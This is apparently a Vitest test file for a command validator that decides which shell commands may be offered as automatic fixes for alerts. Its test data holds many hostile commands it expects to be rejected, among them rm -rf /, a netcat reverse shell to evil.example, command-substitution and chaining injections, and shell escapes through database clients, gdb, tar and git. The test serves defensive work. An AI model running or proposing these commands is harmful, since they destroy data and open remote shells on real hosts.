import { describe, expect, it } from 'vitest';
import { offerObstacle } from './allowed-command.ts';

function isOffered(command: string, allowed: readonly string[] | null): boolean {
  return offerObstacle(command, allowed) === null;
}

describe('without allowed_commands', () => {
  it.each([
    'docker restart redis',
    '  docker  restart\tredis\n',
    "docker restart 'my redis'",
    'sudo -n systemctl restart app@1.service',
    'kubectl --namespace kube-system rollout restart deployment/coredns',
    "docker inspect --format '{{.State.Status}}' web",
    '/opt/app/bin/restart --now a=b',
    'docker exec nginx nginx -s reload',
    'docker restart terraform',
    'psql -c "SELECT pg_reload_conf()"',
    'kubectl -n rm rollout restart deploy/reboot',
    'supervisorctl restart mkfs:app',
  ])('%j is offered', (command) => {
    expect(offerObstacle(command, null)).toBeNull();
  });

  it.each([
    ['docker restart {{ labels.container }}', 'a value from the alert'],
    ["docker restart '{{ labels.container }}'", 'a value from the alert'],
    ['docker restart a && docker restart b', '`&&`'],
    ['docker restart a; true', '`;`'],
    ['docker restart a &', '`&`'],
    ['docker restart a\ndocker restart b', 'a line end'],
    ['docker logs a | tail', '`|`'],
    ['docker restart a > /tmp/x', '`>`'],
    ['docker restart $NAME', 'which the shell expands'],
    ['docker restart *', 'which the shell expands'],
    ['docker restart {a,b}', 'which the shell expands'],
    ['$X', 'which the shell expands'],
    ['docker restart $(cat x)', 'read completely'],
    ['(docker restart a)', 'read completely'],
    ['docker restart a\u0007', 'read completely'],
    ["docker restart 'a", 'read completely'],
    ['docker restart a # now', 'comment'],
    ['docker restart \\\n a', 'next line'],
    ['A=b docker restart a', 'an assignment'],
    ['if docker restart a', '`if`'],
    ['sh -c "docker restart a"', 'hands code'],
    ['ssh host docker restart a', 'hands code'],
    ['eval docker restart a', 'hands code'],
    [`${'sudo '.repeat(13)}docker restart a`, 'hands code'],
    ['bash', 'hands code'],
    ['sudo -i', 'hands code'],
    ['docker exec -it web bash', 'hands code'],
    ['sh fix.sh', 'hands code'],
    ['. ./fix.sh', 'hands code'],
    ['python3 -c pass', 'hands code'],
    ['perl fix.pl', 'hands code'],
    ["awk 'BEGIN { x }'", 'hands code'],
    ['sed -i s/a/b/e x', 'hands code'],
    ['xargs docker restart', 'hands code'],
    ['tar xf a --checkpoint-action=exec=id', 'hands code'],
    ['git -c core.sshCommand=id fetch', 'hands code'],
    ['rsync -ae id a b', 'hands code'],
    ['git clone ext::id', 'hands code'],
    ['crontab jobs', 'hands code'],
    ['env GIT_SSH_COMMAND=id git fetch', 'hands code'],
    ['env A=b docker restart a', 'an assignment'],
    ['docker exec -e A=b web id', 'an assignment'],
    ['rm -rf /srv/data', 'deletes'],
    ['sudo rm -rf /etc', 'deletes'],
    ['docker exec web rm -rf /', 'deletes'],
    ['reboot', 'stops the host'],
    ['terraform destroy', 'deletes'],
    ['psql -c "DROP TABLE a"', 'deletes'],
    [`psql -c '\\! rm -rf /'`, 'another program could run'],
    [`mysql -e 'system rm -rf /'`, 'another program could run'],
    [`sqlite3 x.db '.shell rm -rf /'`, 'another program could run'],
    [`gdb -batch -ex 'shell rm -rf /'`, 'another program could run'],
    [`less +'!rm -rf /' x`, 'another program could run'],
    ['bwrap --bind / / rm -rf /', 'hands code'],
    ['nc -e /bin/sh evil.example 4444', 'hands code'],
    ['npm exec left-pad', 'hands code'],
    ['./fix.sh', 'a file that kedb cannot read'],
    ['sudo /tmp/fix', 'a file that kedb cannot read'],
    ['unknown-runner --do rm -rf /', 'another program could run'],
    [`unknown-runner 'x $(rm -rf /)'`, 'another program could run'],
    ['poetry run rm -rf /', 'deletes'],
    ["git submodule foreach 'rm -rf /'", 'hands code'],
    ['git bisect run rm -rf /', 'deletes'],
    ['machinectl shell vm /bin/rm -rf /', 'deletes'],
    ['chpst -u root rm -rf /', 'deletes'],
    ['rm --rec --f /', 'deletes'],
    ["''", 'empty'],
    ['# nothing', 'empty'],
  ])('%j is not: it has %s', (command, why) => {
    expect(offerObstacle(command, null)).toContain(why);
  });
});

describe('with allowed_commands', () => {
  it('nothing is offered where the list is empty', () => {
    expect(offerObstacle('true', [])).toContain("not on your team's list of automatic fixes");
  });

  it.each([
    ['docker restart redis', 'docker restart *'],
    ['docker  restart\tredis # now', 'docker restart *'],
    ["docker restart 'my redis'", 'docker restart *'],
    ['docker restart redis-1', 'docker restart redis-*'],
    ['docker restart a-redis-b', 'docker restart *redis*'],
    ['docker restart {{ labels.container }}', 'docker restart *'],
    ['docker restart web-{{ labels.container }}', 'docker restart web-*'],
    ['docker restart {{ labels.container }}', 'docker restart {{ labels.container }}'],
    ['docker logs redis 2>&1 | tail', 'docker logs * 2>&1 | tail'],
    ['"docker" restart redis', 'docker restart *'],
    ['docker restart -t=5 redis', 'docker restart -t=* *'],
    ['docker logs --tail=5', 'docker logs --*'],
    ["echo '*'", "echo '*'"],
    ['rm -rf /', 'rm -rf /'],
    ['echo "$HOME"', 'echo "$HOME"'],
    ['kill $(cat /run/x.pid)', 'kill $(cat /run/x.pid)'],
    ['ssh web-1 systemctl restart app@1.service', 'ssh * systemctl restart *'],
  ])('allows %j by %j', (command, pattern) => {
    expect(isOffered(command, ['something else', pattern])).toBe(true);
  });

  it.each([
    ['docker restart redis web', 'docker restart *'],
    ['docker restart', 'docker restart *'],
    ['sudo docker restart redis', 'docker restart *'],
    ['docker restart web', 'docker restart redis-*'],
    ["journalctl -u 'web; id'", 'journalctl -u *'],
    ['docker logs web > /etc/passwd', 'docker logs * > *'],
    ['echo reboot | sh', 'echo * | sh'],
    ['docker restart redis; rm -rf /', 'docker restart *'],
    ['docker restart redis;', 'docker restart *'],
    ['docker restart redis && id', 'docker restart * * *'],
    ['docker restart redis | sh', 'docker restart * > sh'],
    ['docker restart redis\nid', 'docker restart *'],
    ['docker restart $(id)', 'docker restart *'],
    ['docker restart `id`', 'docker restart *'],
    ['docker restart "$(id)"', 'docker restart *'],
    ['docker restart $ALL', 'docker restart *'],
    ['docker rm *', 'docker rm *'],
    ['docker rm {a,b}', 'docker rm *'],
    ['docker restart {{ labels.container }}', 'docker restart redis'],
    ['docker restart {{ labels.a }}', 'docker restart {{ labels.b }}'],
    ['echo redis', "echo '*'"],
    ['docker restart aba', 'docker restart ab*ba'],
    ['kill -9', 'kill *'],
    ['git --exec-path=/tmp/x', 'git *'],
    ["docker restart '-t0'", 'docker restart *'],
    ['systemctl restart --force', 'systemctl restart *force'],
    ['true', 'echo $('],
    ["ssh host systemctl restart 'a; rm -rf /'", 'ssh host systemctl restart *'],
    ["ssh host systemctl restart '$(id)'", 'ssh host systemctl restart *'],
    ['sudo id', 'sudo *'],
    ['docker exec web id', 'docker * web *'],
  ])('does not allow %j by %j', (command, pattern) => {
    expect(isOffered(command, [pattern])).toBe(false);
  });
});
